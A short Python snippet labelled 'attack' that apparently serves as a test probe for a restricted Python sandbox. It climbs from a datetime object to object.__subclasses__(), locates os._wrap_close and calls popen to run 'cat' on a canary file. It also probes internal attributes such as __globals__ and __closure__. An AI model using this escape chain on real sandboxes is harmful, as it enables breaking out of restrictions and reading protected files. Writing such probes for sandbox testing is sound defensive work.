# attack: datetime.now().__class__.__mro__[-1].__subclasses__() and the datetime classes' internals
import datetime
now = datetime.datetime.now()
top = now.__class__.__mro__[-1]
try:
    subs = top.__subclasses__()
    for s in subs:
        if s.__name__ == "_wrap_close":
            print(s.__init__.__globals__["popen"]("cat " + canary_path).read())
except AttributeError as e:
    print("blocked", e)
for obj, name in ((datetime.datetime.now, "__self__"), (datetime.date.today, "__closure__"), (datetime.datetime.now, "__globals__"), (now.strftime, "__globals__"), (datetime.date, "__dict__")):
    try:
        print(name, getattr(obj, name))
    except AttributeError:
        print("no", name)
